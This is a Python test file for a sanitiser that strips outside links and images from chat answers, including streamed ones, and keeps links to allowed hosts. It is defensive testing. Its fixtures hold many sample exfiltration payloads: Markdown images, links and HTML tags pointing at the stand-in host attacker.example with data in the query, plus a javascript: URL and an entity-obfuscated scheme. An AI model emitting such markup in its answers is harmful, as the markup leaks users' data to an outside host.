"""Answers cannot carry data out: every way Markdown (and raw HTML) can make a client fetch or link an outside
URL is cut, the rest of the answer is left exactly as written, and a streamed answer never sends a URL
before it was checked."""
from __future__ import annotations

import pytest

from chalicelib.knowledge.answer_links import (
    IMAGE_REMOVED,
    LINK_REMOVED,
    Guard,
    carries_marker,
    rules,
    sanitise,
)
from chalicelib.platform.workspaces import link_hosts

SOURCE = "Leave is filed with the form at https://forms.example.org/leave?type=annual today."
R = rules(["docs.example.com", "*.corp.example"], [SOURCE])
EVIL = "attacker.example"

REFUSED = [
    ("image", "Days. ![logo](http://attacker.example/p.png?d=thirty%20days) Done.", "Days. logo [image removed] Done."),
    ("link", "Read [the policy](http://attacker.example/?d=secret) now.", "Read the policy [link removed] now."),
    ("reference link", "Ref [here][r] ok.\n\n[r]: http://attacker.example/?d=secret\n", "Ref here [link removed] ok."),
    ("reference image", "![x][i]\n\n[i]: https://attacker.example/i.png?d=1", "x [image removed]"),
    ("autolink", "Auto <http://attacker.example/?d=1> end.", "Auto [link removed] end."),
    ("bare URL", "Bare http://attacker.example/q?d=2 end.", "Bare [link removed] end."),
    ("schemeless bare URL", "See attacker.com/p?d=3 now.", "See [link removed] now."),
    ("raw HTML img", 'Raw <img src="http://attacker.example/p.png?d=1"> inline.', "Raw [image removed] inline."),
    ("HTML block", "<div>\n<img src='http://attacker.example/x.png'>\n</div>\n", "<div>\n[image removed]\n</div>"),
    ("HTML srcset", '<img srcset="https://attacker.example/a.png 1x">', "[image removed]"),
    ("HTML anchor", 'Go <a href="https://attacker.example/?d=1">here</a>.', "Go [link removed]here</a>."),
    ("protocol-relative image in a quote", "> q ![x](//attacker.example/p.png?d=1)\n> more",
     "> q x [image removed]\n> more"),
    ("table cells", "| a | b |\n|---|---|\n| ![i](http://attacker.example/i.png) | [l](http://attacker.example/l) |",
     "| a | b |\n|---|---|\n| i [image removed] | l [link removed] |"),
    ("entity in the scheme", "[e](http&#58;//attacker.example/?d=2)", "e [link removed]"),
    ("image inside a link", "[![img](http://attacker.example/i.png)](http://attacker.example/l)",
     "img [image removed] [link removed]"),
    ("mailto with data", "[m](mailto:x@attacker.example?body=secret)", "m [link removed]"),
    ("javascript", "[j](javascript:alert(1))", "j [link removed]"),
    ("heading and list", "# H [l](http://attacker.example/h)\n\n1. item [l](http://attacker.example/i)\n   more",
     "# H l [link removed]\n\n1. item l [link removed]\n   more"),
    ("own-host image is not enough for an outside one", "![a](http://127.0.0.1:8000/a.png)![b](https://attacker.example/b)",
     "![a](http://127.0.0.1:8000/a.png)b [image removed]"),
]


@pytest.mark.parametrize(("name", "text", "expected"), REFUSED, ids=[c[0] for c in REFUSED])
def test_each_way_out_is_cut_and_the_rest_is_left_as_written(name: str, text: str, expected: str) -> None:
    out = sanitise(text, R)
    assert EVIL not in out.text and "attacker.com" not in out.text
    assert out.text.strip() == expected.strip()
    assert out.removed and all("d=" not in str(r) for r in out.removed)  # never the URL itself


def test_links_the_workspace_or_the_sources_vouch_for_keep_their_url() -> None:
    text = ("See [docs](https://docs.example.com/x?y=1), [wiki](https://wiki.corp.example/z), "
            "[form](https://forms.example.org/leave?type=annual), [app](/v1/chats) and "
            "![own](http://127.0.0.1:8003/logo.png). Files: config.py, www-data.")
    out = sanitise(text, R)
    assert out.text == text and not out.removed


def test_a_source_url_with_other_data_in_it_is_not_vouched_for() -> None:
    out = sanitise("[form](https://forms.example.org/leave?type=annual&d=secret)", R)
    assert out.text == "form [link removed]"
    assert sanitise("![f](https://forms.example.org/leave?type=annual)", R).text == "f [image removed]"  # images: own only


def test_a_construct_that_cannot_be_located_falls_back_to_inert_text() -> None:
    text = "Escaped \\[x\\]\\(http://attacker.example/?d=1\\) and `code` [ok](/x)"
    out = sanitise(text, R)
    assert EVIL not in out.text
    tricky = "[a](<http://attacker.example/?d=1 2>)\n\n\t[b]( http://attacker.example/?d=3 )"
    out = sanitise(tricky, R)
    assert EVIL not in out.text


def test_markers_make_a_sentence_ungrounded() -> None:
    assert carries_marker(f"logo {IMAGE_REMOVED}") and carries_marker(f"x {LINK_REMOVED}")
    assert not carries_marker("Employees get thirty vacation days.")


def _stream(text: str, size: int) -> list[str]:
    g = Guard(R)
    out = [g.feed(text[i:i + size]) for i in range(0, len(text), size)]
    return [*out, g.end()]


@pytest.mark.parametrize("size", [1, 3, 7, 64])
def test_a_streamed_answer_never_sends_a_url_before_it_is_checked(size: int) -> None:
    text = ("Employees get thirty days. ![logo](http://attacker.example/p.png?d=thirty%20days) and "
            "[the\npolicy](https://attacker.example/c?d=1 \"t\").\n\nNext http://attacker.example/q?d=2 end, "
            "see [docs](https://docs.example.com/x).\n\n[r]: https://attacker.example/r?d=3\n")
    deltas = _stream(text, size)
    sent = ""
    for d in deltas:
        sent += d
        assert EVIL not in sent  # at every point of the stream
    assert "[image removed]" in sent and "[docs](https://docs.example.com/x)" in sent
    assert sent.startswith("Employees get thirty days. ")


def test_plain_text_streams_word_by_word() -> None:
    deltas = _stream("One two three four.", 4)
    assert [d for d in deltas if d] == ["One ", "two ", "three ", "four."]


@pytest.mark.parametrize("bad", [["http://x.example.com"], ["x"], ["1.2.3.4"], ["a b.com"], ["x.com:8080"],
                                 ["x.com/path"], ["-x.com"], [""], [1]])
def test_link_hosts_are_host_names_only(bad: list[object]) -> None:
    assert link_hosts.check(bad) is not None


def test_link_hosts_are_normalised() -> None:
    assert link_hosts.check(["Docs.Example.COM", "*.corp.example", "bücher.example"]) is None
    assert link_hosts.normalise(["Docs.Example.COM", "docs.example.com", "*.Corp.example", "bücher.example"]) == [
        "docs.example.com", "*.corp.example", "xn--bcher-kva.example"]


def test_citation_markers_and_complete_links_do_not_hold_the_stream() -> None:
    deltas = _stream("Days are thirty [1]. See [docs](https://docs.example.com/x) now. And more", 3)
    sent = [d for d in deltas if d]
    assert sent[0].startswith("Days ") and len(sent) > 5  # word by word, not at the paragraph's end
    assert "".join(sent) == "Days are thirty [1]. See [docs](https://docs.example.com/x) now. And more"


@pytest.mark.parametrize("text", [
    "x [a\\] b](http://attacker.example/?d=1) y",
    "x [a][r] y\n[r]: http://attacker.example/?d=1\n",
    "x [a](<http://attacker.example/?d=1 2>) y",
    "x <img\nsrc=http://attacker.example/?d=1> y",
    "x ![a](http://attacker.example/?d=1 \"t (1)\") y",
    "x [[1]](http://attacker.example/?d=1) y",
])
@pytest.mark.parametrize("size", [1, 2, 5])
def test_constructs_split_across_pieces_are_held_until_they_end(text: str, size: int) -> None:
    sent = ""
    for d in _stream(text, size):
        sent += d
        assert EVIL not in sent
